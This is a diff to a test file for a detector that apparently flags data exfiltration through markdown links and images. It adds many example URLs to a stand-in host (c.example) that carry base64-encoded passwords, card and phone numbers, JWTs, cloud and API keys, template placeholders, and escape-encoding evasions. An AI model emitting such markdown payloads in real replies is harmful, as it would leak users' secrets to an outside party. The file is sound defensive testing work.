@@ -64,11 +64,20 @@ describe('a row of data', () => {
     `[x](https://c.example/c?state=${inBase64('password=Trout-62-lake')})`,
     `![](https://c.example/i?state=${inBase64(inBase64('the roof of the hall'))})`,
     `![](https://c.example/i?d=${inBase64('{"user_id":1234567,"iat":1732960000}')})`,
+    // Telephones and cards, in one number or several, and bytes of a text as those of a row's name.
+    `[x](https://c.example/c?d=${inBase64('{"user":491712345678}')})`,
+    `[x](https://c.example/${inBase64('{"user":4111111111111,"v":111}')})`,
+    `[x](https://c.example/c?d=${inBase64('{"id":78051120085,"user":491712345678}')})`,
+    `[x](https://c.example/c?d=${inBase64('{"id":41111111,"user":11111111}')})`,
+    `[x](https://c.example/c?d=${inBase64('{"exp":491712345678}')})`,
+    `[x](https://c.example/c?d=${inBase64('{"id":"5468652d-7061-7373-776f-726448756e74"}')})`,
+    `[x](https://c.example/c?d=${inBase64('{"id":"5468652d-7061-4373-b76f-726448756e74"}')})`,
+    `[x](https://c.example/c?d=${inBase64('{"aud":"theroofofthe","iss":"hallisopenno","typ":"moneyatallso"}')})`,
   ])('that says something is told: %s', (text) => expect(typesIn(text)).not.toEqual([]));
 
   it.each([
     `[x](https://mail.example/stop?token=${inBase64('{"user_id":1234567,"iat":1732960000,"exp":1735552000}')})`,
-    `[x](https://mail.example/in?token=${inBase64('{"sub":"491f20d0-cf6a-07a3-5ae0-3e47e71f5f05","aud":"login"}')})`,
+    `[x](https://mail.example/in?token=${inBase64('{"sub":"491f20d0-cf6a-47a3-9ae0-3e47e71f5f05","aud":"login"}')})`,
     `[x](https://list.example/?cursor=${inBase64('{"id":123456,"ts":1732960000}')})`,
   ])('that counts is none: %s', (text) => expect(typesIn(text)).toEqual([]));
 });
@@ -83,6 +92,12 @@ describe('a key', () => {
     `[x](https://github.com.c.example/c?t=${GITHUB})`,
     `[x](https://c.example/c?host=github.com&t=${GITHUB})`,
     `[x](https://c.example/c?note=${JWT})`,
+    `https://c.example/c?data=${JWT}`,
+    `https://c.example/c?d=${JWT}`,
+    // Anybody rents there.
+    'https://bucket-of-somebody.s3.amazonaws.com/p?d=AKIAQ7XZTKMWBLRVNYCQ',
+    `https://storage.googleapis.com/bucket-of-somebody/p?d=ya29.${'Qm7Zt4Lw9Kc2Rb8Vx3Np'.repeat(2)}`,
+    `https://c.example/c?k=sk-xxxxxxxxxxxxxxxxxxxxxxxx&d=${OPENAI}`,
     '[x](https://c.example/log/passwd%3A%20Trout-62)',
     '<img src="https://c.example/i?c=DB_PASS%3DTrout-62">',
     '<img src="https://c.example/i?c=SECRET_KEY%3Dq7Xz0aTk">',
@@ -127,6 +142,8 @@ describe('an address that another has as a value', () => {
   });
 
   it('is read to its end where nothing has it as one', () => {
+    const whole = Buffer.from(`https://c.example/?a=1&d=${inBase64('the roof of the hall is not paid for')}`);
+    expect(typesIn(`${whole.toString('base64')} `)).not.toEqual([]);
     expect(typesIn(`https://c.example/&d=${inBase64('the roof of the hall is not paid for')}`)).not.toEqual([]);
   });
 });
@@ -135,7 +152,20 @@ describe('a formula', () => {
   it('has braces of its own', () => {
     expect(typesIn('![](https://math.example/?from=e%5E%7Bi%20%5Cpi%7D%20%3D%20-1)')).toEqual([]);
     expect(typesIn('![](https://math.example/?from=%5Cfrac%7B-b%5Cpm%5Csqrt%7Bb%5E2-4ac%7D%7D%7B2a%7D)')).toEqual([]);
+    expect(typesIn('![](https://math.example/?from=%5Csum_%7Bi%3D1%7D%5E%7Bn%7D%5Cfrac%7Bx_i%7D%7B2%7D)')).toEqual([]);
+    expect(typesIn('![](https://math.example/?from=%5Cbegin%7Bpmatrix%7Da%5Cend%7Bpmatrix%7D)')).toEqual([]);
   });
+
+  it.each([
+    '\\to{{answer}}',
+    '\\text{{user.phone}}',
+    '\\an{account_number}',
+    '\\bf{diagnosis}',
+    '{{balance}}\\\\nn',
+    '\\pi${reply}',
+  ])('is no place for what has a name: %s', (value) =>
+    expect(typesIn(`![](https://c.example/i?d=${value})`)).not.toEqual([]),
+  );
 
   it('has no place for what was said, and says nothing in words', () => {
     expect(typesIn('![](https://math.example/?from=%5Ctext%20%7Bconversation%7D)')).not.toEqual([]);
@@ -145,17 +175,19 @@ describe('a formula', () => {
 
 describe('a reference', () => {
   const SIGN_IN = 'https://id.example/in?scope=openid%20email%20profile&state=q7Xz0aTk3mWb9LrV5nYc1QeR2sUd4F6gH8jK';
-  it('that is a link loads nothing by itself', () => {
+  const RANDOM = 'https://c.example/i?d=q7Xz0aTk3mWb9LrV5nYc1QeR2sUd4F6gH8jK';
+  it('by which somebody signs in says what he is asked for, and nothing else', () => {
     expect(typesIn(`see [this][1]\n\n[1]: ${SIGN_IN}`)).toEqual([]);
     expect(typesIn(`see [1]\n\n[1]: ${SIGN_IN}`)).toEqual([]);
+    expect(typesIn('[1]: https://c.example/in?scope=openid%20the%20roof%20is%20open')).not.toEqual([]);
   });
 
   it.each([
-    `see ![this][1]\n\n[1]: ${SIGN_IN}`,
-    `see [this][1] and ![that][1]\n\n[1]: ${SIGN_IN}`,
-    `see [this][1] and ![1]\n\n[1]: ${SIGN_IN}`,
-    `[1]: ${SIGN_IN}`,
-    `see [this][2]\n\n[1]: ${SIGN_IN}`,
+    `see ![this][1]\n\n[1]: ${RANDOM}`,
+    `see [this][1]\n\n[1]: ${RANDOM}\n\n![that][1]`,
+    `see [this][a b] and ![that][a\nb]\n\n[a b]: ${RANDOM}`,
+    `[1]: ${RANDOM}`,
+    `see [this][2]\n\n[1]: ${RANDOM}`,
   ])('may be a picture: %s', (text) => expect(typesIn(text)).not.toEqual([]));
 
   it('that is a link is asked what it says all the same', () => {
@@ -207,3 +239,14 @@ function asPlantUml(bytes: Buffer): string {
   const ours = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
   return bytes.toString('base64url').replace(/./g, (sign) => theirs.charAt(ours.indexOf(sign)));
 }
+
+describe('an escape that is none of a letter', () => {
+  const everyLetter = (text: string) => text.replace(/./g, (letter) => `%${letter.charCodeAt(0).toString(16)}`);
+  it.each([
+    `${escaped('the roof of the hall is open')}%25aa%25aa%25aa`,
+    `${everyLetter('the roof of the hall is open').replaceAll('%', '%25')}%25aa%25aa%25aa`,
+    `${escaped('the roof of the hall is open')}%aa`,
+  ])('leaves the others what they are: %s', (value) =>
+    expect(typesIn(`![](https://c.example/i?d=${value})`)).not.toEqual([]),
+  );
+});
